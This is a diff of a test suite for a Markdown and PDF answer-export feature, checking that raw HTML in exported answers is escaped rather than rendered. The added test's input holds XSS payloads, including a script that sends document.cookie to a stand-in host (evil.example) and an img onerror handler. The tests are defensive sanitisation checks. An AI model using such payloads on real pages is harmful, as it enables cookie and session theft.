@@ -81,7 +81,7 @@ _由 Sift 导出于 2026-11-29 · 知识库“Ops”_
 
 ## And k?
 
-<script>alert(1)</script>Fusion uses k = 60 [^3].
+&lt;script>alert(1)&lt;/script>Fusion uses k = 60 [^3].
 
 [^1]: “默认超时是 30 秒。 重试三次。”
     连接超时 — \`wiki/runbook.md\`，连接超时 › Retry policy
@@ -96,7 +96,7 @@ _由 Sift 导出于 2026-11-29 · 知识库“Ops”_
 
   it('exports one answer with its question only', () => {
     const md = renderExport({ ...source, messageId: 'a2' }, 'md');
-    expect(md).toContain('# And k?\n\n_Exported from Sift on 2026-11-29 · knowledge base “Ops”_\n\n<script>alert(1)</script>Fusion uses k = 60 [^1].');
+    expect(md).toContain('# And k?\n\n_Exported from Sift on 2026-11-29 · knowledge base “Ops”_\n\n&lt;script>alert(1)&lt;/script>Fusion uses k = 60 [^1].');
     expect(md).not.toContain('E_CONN_RESET');
   });
 
@@ -260,6 +260,44 @@ describe('export links', () => {
     expect(uris.filter((u) => !/^(https?:|mailto:)/.test(u))).toEqual([]);
     expect(pdf).not.toMatch(/\/URI\s*\(\s*(javascript|data|vbscript|file):/i);
   }, 60_000);
+});
+
+describe('export of raw HTML in an answer (issue #27 item 3)', () => {
+  it('shows <script>, <img onerror> and <iframe> as text in Markdown, and leaves code alone', () => {
+    const answer = [
+      'Before <img src=x onerror="alert(1)"> inline [1].',
+      '',
+      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
+      '',
+      '<iframe src="https://evil.example"></iframe>',
+      '',
+      'Code stays: `<b>bold</b>` and',
+      '',
+      '```html',
+      '<script>kept()</script>',
+      '```',
+    ].join('\n');
+    const at = answer.indexOf('[1]');
+    const t: TurnInfo = {
+      ...turn(answer, []), passages: [passage(1, { text: 'A passage.' })],
+      citations: [{ number: 1, valid: true, markerStart: at, markerEnd: at + 3, quote: null, quoteVerified: null }],
+    };
+    const src: ExportSource = { ...source, messages: [{ id: 'a1', conversationId: 'c1', role: 'assistant', content: answer, createdAt: 't', turn: t }] };
+    const md = renderExport(src, 'md');
+    expect(md).toContain('Before &lt;img src=x onerror="alert(1)"> inline [^1].');
+    expect(md).toContain('&lt;script>fetch("https://evil.example/?c=" + document.cookie)&lt;/script>');
+    expect(md).toContain('&lt;iframe src="https://evil.example">&lt;/iframe>');
+    expect(md).toContain('Code stays: `<b>bold</b>` and');
+    expect(md).toContain('```html\n<script>kept()</script>\n```');
+    // Rendered by a Markdown viewer, no element comes of it: the parser sees no raw HTML left.
+    const html: string[] = [];
+    const walk = (node: MdastNodes): void => {
+      if (node.type === 'html') html.push(node.value);
+      if ('children' in node) for (const child of node.children) walk(child);
+    };
+    walk(fromMarkdown(md, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
+    expect(html).toEqual([]);
+  });
 });
 
 describe('export of answers quoting code', () => {
